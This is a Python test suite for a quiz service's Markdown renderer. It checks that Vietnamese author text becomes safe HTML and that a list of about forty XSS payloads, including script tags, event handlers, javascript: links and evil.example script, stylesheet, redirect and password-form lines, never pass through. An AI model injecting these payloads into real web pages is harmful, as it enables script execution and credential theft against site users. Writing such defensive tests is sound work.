"""Authors' Markdown on a page: what is kept, and that nothing dangerous passes."""

from __future__ import annotations

import re
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from quiz_service.web.markdown import ATTRIBUTES, BLOCK_TAGS, CLASSES, EXTENSIONS, render_block, render_inline

Render = Callable[[str], Markup]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/a.png' onload='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](/a.png)',
    '[x](/a "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](/a){ onclick=alert(1) style=color:red }",
    "x\n{: onclick=alert(1) id=main .danger }",
    '<p style="position:fixed" class="md-header" id="main">x</p>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<div markdown onclick=alert(1)>**x**</div>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<x-element onclick=alert(1)>x</x-element>",
]


class Reader(HTMLParser):
    """Collects the elements and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def is_harmless(html: str) -> bool:
    """Whether only allowed elements and attributes are in it, and only addresses that run nothing."""
    for tag, attributes in Reader(html).elements:
        if tag not in BLOCK_TAGS or not set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel", "align", "class"}:
            return False
        if not set((attributes.get("class") or "").split()) <= CLASSES.get(tag, set()):
            return False
        # A browser ignores blanks before an address, and tabs and line ends anywhere in it.
        address = re.sub(r"^[\x00-\x20]+|[\t\r\n]", "", attributes.get("href") or "")
        if re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", address, re.IGNORECASE):
            return False
        if not re.fullmatch(r"(/[\w.-]+)+|", attributes.get("src") or ""):
            return False
    return True


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>", "<p onclick=x>", "<p style=x>", "<p id=x>", "<p class=md-header>", "<img src=x>",
        '<a href="java\tscript:x">', '<a href=" JAVASCRIPT:x">', '<a href="data:x">', "<a target=_blank>",
    ],
)  # fmt: skip
def test_what_these_tests_measure_with_knows_danger(html: str) -> None:
    assert not is_harmless(html)


@pytest.mark.parametrize("render", [render_block, render_inline])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_passes(render: Render, attack: str) -> None:
    html = render(f"Trước {attack} sau")
    assert is_harmless(html)
    assert is_harmless(render(attack))
    assert "Trước" in html


@given(
    st.lists(
        st.sampled_from(["<", ">", "</", "script", "img src=x", " onerror=alert(1)", '"', "'", "`", "[", "](", ")", "!",
                         "javascript:", "\n", "    ", "> ", "*", "_", "<!--", "-->", "<svg>", "<style>", "{: ", " }",
                         "onclick=a", "&lt;", "&#x3c;", "\\", "|", "a", "!!! note", "<div markdown>", "\x02", "\x03"]),
        max_size=14,
    )
)  # fmt: skip
def test_no_mixture_of_marks_passes(pieces: list[str]) -> None:
    assert is_harmless(render_block("".join(pieces)))
    assert is_harmless(render_inline("".join(pieces)))


def test_words_of_dropped_elements_stay_those_of_scripts_go() -> None:
    assert render_inline("một <font>hai</font> <script>ba</script>bốn") == "một hai bốn"


def test_marks_inside_a_line_become_elements() -> None:
    assert render_inline("trên **70 %** của *xã*, H<sub>2</sub>O") == (
        "trên <strong>70 %</strong> của <em>xã</em>, H<sub>2</sub>O"
    )


@pytest.mark.parametrize(
    "choice", ["1. Hà Nội", "- trừ", "+ cộng", "# số", "| a | b |", "[x]: /y", "!!! note", "Đúng", "a_b_c", "50 – 60 %"]
)
def test_a_choice_is_shown_as_written_and_never_becomes_a_block(choice: str) -> None:
    assert render_inline(choice) == choice


def test_comparison_signs_in_a_choice_are_words() -> None:
    assert render_inline("> 70 % và <80 %") == "&gt; 70 % và &lt;80 %"


def test_a_choice_over_several_lines_is_one_line_without_a_paragraph() -> None:
    assert render_inline("  một\n\n  hai\n") == "một hai"


def test_a_stem_has_paragraphs_lists_tables_and_notes() -> None:
    html = render_block(
        'Bảng:\n\n| Năm | Tỷ lệ |\n|:--|--:|\n| 2021 | 70 % |\n\n3. ba\n4. bốn\n\n!!! warning "Lưu ý"\n    Đọc kỹ.'
    )
    assert "<p>Bảng:</p>" in html
    assert '<th align="right">Tỷ lệ</th>' in html
    assert "<ol>\n<li>ba</li>\n<li>bốn</li>\n</ol>" in html
    assert '<div class="admonition warning">\n<p class="admonition-title">Lưu ý</p>\n<p>Đọc kỹ.</p>\n</div>' in html


def test_a_link_leads_out_without_telling_where_from() -> None:
    assert render_inline("[Công báo](https://congbao.example/a?b=1&c=2)") == (
        '<a href="https://congbao.example/a?b=1&amp;c=2" rel="noopener noreferrer">Công báo</a>'
    )


@pytest.mark.parametrize("address", ["https://evil.example/x", "//evil.example/x", "/\\evil.example/x", "x"])
def test_a_picture_from_elsewhere_is_not_fetched_but_its_words_stay(address: str) -> None:
    assert render_inline(f"![Sơ đồ]({address})") == '<img alt="Sơ đồ">'


def test_a_picture_of_this_site_is_shown() -> None:
    assert render_inline("![Sơ đồ](/assets/so-do.svg)") == '<img alt="Sơ đồ" src="/assets/so-do.svg">'


def test_loose_marks_become_whole_letters() -> None:
    assert render_inline("e\u0302\u0301") == "ế"


def test_two_texts_share_nothing() -> None:
    render_block("[x][1]\n\n[1]: https://a.example")
    assert "href" not in render_block("[x][1]")


def test_many_threads_get_what_one_gets() -> None:
    texts = [f"Câu **{n}** và [x](https://a.example/{n})\n\n- {n}" for n in range(200)]
    with ThreadPoolExecutor(8) as threads:
        assert list(threads.map(render_block, texts)) == [render_block.__wrapped__(text) for text in texts]


def test_the_result_is_markup_so_that_a_template_does_not_escape_it_again() -> None:
    assert isinstance(render_inline("a"), Markup)
    assert isinstance(render_block("a"), Markup)


class ExtensionsReader(yaml.SafeLoader):
    """Reads mkdocs.yml without running what it names."""


ExtensionsReader.add_multi_constructor("tag:yaml.org,2002:python/", lambda loader, suffix, node: suffix)


def test_the_extensions_are_those_of_the_lessons_with_the_same_settings() -> None:
    site: dict[str, Any] = yaml.load(Path("mkdocs.yml").read_text("utf-8"), ExtensionsReader)
    lessons: dict[str, Any] = {}
    for extension in site["markdown_extensions"]:
        lessons |= {extension: {}} if isinstance(extension, str) else extension
    assert {name: lessons.get(name) for name in EXTENSIONS} == EXTENSIONS
